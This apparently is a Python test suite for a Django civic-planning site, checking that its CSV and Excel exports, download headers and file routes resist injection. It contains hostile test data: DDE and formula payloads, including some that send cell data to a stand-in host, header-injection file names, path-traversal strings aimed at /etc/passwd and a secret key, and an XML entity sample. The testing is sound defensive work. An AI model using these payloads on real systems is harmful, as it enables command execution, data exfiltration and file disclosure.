"""What is taken away cannot run, and no address reaches a file that nobody meant to give."""

from __future__ import annotations

import ast
import csv
import io
import re
from zipfile import ZipFile

import openpyxl
import pytest
from django.conf import settings
from django.test import Client

from abierto.accounts.enums import Role
from abierto.core.files import attachment, csv_text, safe_cell
from tests.architecture.routes import routes
from tests.factories.accounts import UserFactory
from tests.factories.plan import CommitmentFactory, published_version
from tests.factories.territory import MunicipalityFactory
from tests.running import ROOT

SIGNS = ("=", "+", "-", "@", "\t", "\r", "\n", "\x00", "＝", "＋", "－", "＠")
ATTACKS = (
    "=cmd|' /C calc'!A0", "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+9)*cmd|' /C calc'!A0",
    "=HYPERLINK(\"https://malo.example/?\"&A1;\"clic\")", "=IMPORTXML(\"https://malo.example\";\"//a\")",
    "\t=1+1", "\r=1+1", "\n=1+1", "＝1+1", '=DDE("cmd";"/C calc";"x")', "=WEBSERVICE(\"https://malo.example\")",
)  # fmt: skip


@pytest.mark.parametrize("text", ATTACKS)
def test_no_cell_of_a_csv_begins_as_a_formula(text):
    rows = csv.reader(io.StringIO(csv_text(["a", "b"], [{"a": text, "b": 'inocente","=1+1'}]), newline=""))
    cells = list(rows)[1]
    assert cells == ["'" + text, 'inocente","=1+1']
    assert safe_cell(text)[0] == "'"


@pytest.fixture
def hostile_plan(db):
    """A published plan and its working copy where everything that people write begins as a formula."""
    commitment = CommitmentFactory(
        complete=True, axis__exercise__is_current=True, name=ATTACKS[0], objective=ATTACKS[1], problem_solved=ATTACKS[4]
    )
    exercise = commitment.exercise
    exercise.name = ATTACKS[2]
    exercise.save()
    commitment.tree.central_problem = ATTACKS[3]
    commitment.tree.save()
    commitment.tree.nodes.update(text=ATTACKS[4], objective=ATTACKS[5])
    return published_version(exercise)


def cells_of(body: bytes) -> list:
    book = openpyxl.load_workbook(io.BytesIO(body))
    return [cell for sheet in book for row in sheet.iter_rows() for cell in row if cell.value is not None]


@pytest.mark.parametrize("where", ["public", "desk"])
def test_no_workbook_of_a_plan_holds_a_formula_whatever_people_wrote(hostile_plan, settings, where):
    settings.SECOND_FACTOR_REQUIRED = False
    exercise, client = hostile_plan.exercise, Client()
    client.force_login(UserFactory(role=Role.SECRETARIAT))
    address = {
        "public": f"/planes/{exercise.external_id}/documento.xlsx",
        "desk": f"/escritorio/plan/ejercicios/{exercise.external_id}/descargar.xlsx",
    }[where]

    answer = client.get(address)

    assert answer.status_code == 200
    assert answer.headers["Content-Disposition"].startswith("attachment")
    with ZipFile(io.BytesIO(answer.content)) as parts:
        xml = b"".join(parts.read(name) for name in parts.namelist())
        assert not [name for name in parts.namelist() if re.search(r"external|macro|vba|embed", name, re.IGNORECASE)]
    assert not re.search(rb"<f[ >]", xml)
    cells = cells_of(answer.content)
    assert {cell.data_type for cell in cells} <= {"s", "n", "d", "b"}
    assert sum(str(cell.value).startswith(("=", "+", "-", "@")) and cell.data_type == "s" for cell in cells) >= 4


def test_every_public_csv_is_free_of_formulas(hostile_plan, client):
    MunicipalityFactory(name=ATTACKS[0], folded_name="x", head_town=ATTACKS[3], source=ATTACKS[2])
    tree = hostile_plan.exercise.axes.get().trees.first()
    checked = 0
    for address in (
        "/territorio/municipios.csv",
        "/territorio/distritos.csv",
        f"/planes/{hostile_plan.exercise.external_id}/arboles/{tree.external_id}.csv",
    ):
        answer = client.get(address)
        assert answer.status_code == 200, address
        assert answer.headers["Content-Type"] == "text/csv; charset=utf-8"
        for row in list(csv.reader(io.StringIO(answer.content.decode("utf-8-sig"), newline="")))[1:]:
            for cell in row:
                assert not cell.startswith(SIGNS) or re.fullmatch(r"-?\d+(\.\d+)?", cell), (address, cell)
                checked += cell.startswith("'")
    assert checked >= 4


def test_only_these_files_write_sheets_so_each_export_passes_through_what_is_tested_here():
    writers = set()
    for path in (ROOT / "abierto").rglob("*.py"):
        for node in ast.walk(ast.parse(path.read_text())):
            if isinstance(node, ast.Call) and ast.unparse(node.func) in {
                "csv.writer", "csv.DictWriter", "Workbook", "openpyxl.Workbook",
            }:  # fmt: skip
                writers.add(path.relative_to(ROOT).as_posix())
    assert writers == {
        "abierto/core/files.py",
        "abierto/delivery/package/parts.py",  # what each actor receives: tests/delivery/test_format.py
        "abierto/delivery/package/tables.py",
        "abierto/dialogues/importing.py",  # a template to fill in, which holds nobody's words
        "abierto/followup/end_report_workbook.py",
        "abierto/plan/exchange/workbook_writer.py",
    }


@pytest.mark.parametrize("text", ATTACKS)
def test_no_cell_of_a_report_becomes_a_formula_when_its_workbook_is_opened(text):
    from abierto.followup.end_report_workbook import _put

    book, saved = openpyxl.Workbook(), io.BytesIO()
    _put(book.active.cell(1, 1), text)
    book.save(saved)

    with ZipFile(saved) as parts:
        assert not re.search(rb"<f[ >]", parts.read("xl/worksheets/sheet1.xml"))
    (cell,) = cells_of(saved.getvalue())
    assert cell.data_type == "s"


def test_every_download_of_the_plan_is_saved_and_never_opened_inside_the_site(hostile_plan, client):
    base = f"/planes/{hostile_plan.exercise.external_id}"
    tree = hostile_plan.exercise.axes.get().trees.first()
    for address in (
        *(f"{base}/documento.{kind}" for kind in ("pdf", "docx", "json", "xlsx")),
        f"{base}/arboles/{tree.external_id}.svg",
        f"{base}/arboles/{tree.external_id}.csv",
    ):
        answer = client.get(address)
        assert answer.status_code == 200, address
        assert re.fullmatch(r'attachment; filename="[-\w.]+"', answer.headers["Content-Disposition"]), address
        assert answer.headers["X-Content-Type-Options"] == "nosniff"
        assert "default-src 'none'" in answer.headers["Content-Security-Policy"]


@pytest.mark.parametrize("name", ['a"b.pdf', "a\r\nX-Malo: 1.pdf", "../../etc/passwd", "ñ€\u202egpj.exe", "a;b.pdf"])
def test_a_file_name_never_breaks_the_header_that_holds_it(name):
    said = attachment(b"x", name, "application/pdf").headers["Content-Disposition"]
    assert "\n" not in said
    assert "\r" not in said
    assert said.count('"') in {0, 2}
    assert "\u202e" not in said
    assert "/" not in said.replace("attachment; filename*=utf-8''", "")


CLIMBS = (
    "../", "..%2f", "%2e%2e/", "%2e%2e%2f", "..%5c", "..\\", "%252e%252e%252f", "..;/", "....//", "%c0%ae%c0%ae/",
    ".%00./", "/", "%2f", "~root/", "file:", "C:\\",
)  # fmt: skip
TARGETS = ("etc/passwd", "abierto.sqlite3", "secret-key", "settings.py", "correo/1.log", "importaciones/1/x.json")


@pytest.mark.django_db
def test_no_spelling_of_an_address_climbs_out_of_the_static_or_stored_files(site, tmp_path):
    secret = settings.DATA_DIR / "secret-key"
    secret.write_text("llave-que-nadie-debe-leer")
    try:
        wrong = []
        for prefix in ("/static/", "/archivos/", "/archivo/", "/static/abierto/", "/verificar/", "/planes/", "/"):
            for climb in CLIMBS:
                for target in TARGETS:
                    for times in (1, 3):
                        path = prefix + climb * times + target
                        status, _, body = site.ask(path)
                        if status == 200 or b"llave-que" in body or b"root:" in body:
                            wrong.append(path)
        assert not wrong
    finally:
        secret.unlink()


@pytest.mark.parametrize(
    "path",
    ["/.git/config", "/.git/HEAD", "/.env", "/.htaccess", "/abierto/config/settings.py", "/requirements.txt",
     "/pyproject.toml", "/static/", "/archivos/", "/archivos/importaciones/", "/static/abierto/", "/var/", "/admin/",
     "/django-admin/", "/metrics", "/debug/", "/__debug__/", "/server-status", "/phpinfo.php",
     "/api/docs", "/openapi.json"],
)  # fmt: skip
@pytest.mark.django_db
def test_nothing_of_the_program_or_its_folders_is_listed_or_served(client, path):
    assert client.get(path).status_code == 404


def test_no_route_serves_the_folder_of_stored_files():
    media = settings.MEDIA_URL
    assert [route.path for route in routes() if route.path.startswith(media) and "serve" in route.name] == []


def test_a_sheet_hidden_under_the_name_of_a_picture_declares_no_entities():
    """The reader of cells refuses declarations by itself, whatever part of the archive it was led to."""
    from abierto.core.errors import DomainError
    from abierto.core.workbooks.sheet_xml import shared_strings

    bomb = b'<!DOCTYPE x [<!ENTITY a "ja">]><sst><si><t>&a;</t></si></sst>'
    with pytest.raises(DomainError, match="entidades"):
        shared_strings(io.BytesIO(bomb))
